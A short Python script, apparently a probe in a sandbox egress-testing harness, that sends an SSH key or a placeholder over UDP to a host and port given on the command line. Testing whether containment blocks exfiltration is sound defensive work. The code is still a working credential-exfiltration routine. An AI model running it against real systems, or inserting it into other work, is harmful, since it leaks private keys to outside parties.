"""Send the SSH key over UDP: python3 exfil_udp.py HOST PORT."""

import socket
import sys

from _attempt import attempt, finish, key_or_placeholder

host, port = sys.argv[1], int(sys.argv[2])
payload = key_or_placeholder()


def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(payload, (host, port))
    return f"sent {len(payload)} bytes to {host}:{port}/udp"


attempt(f"open a UDP socket to {host}:{port}", send)
finish()
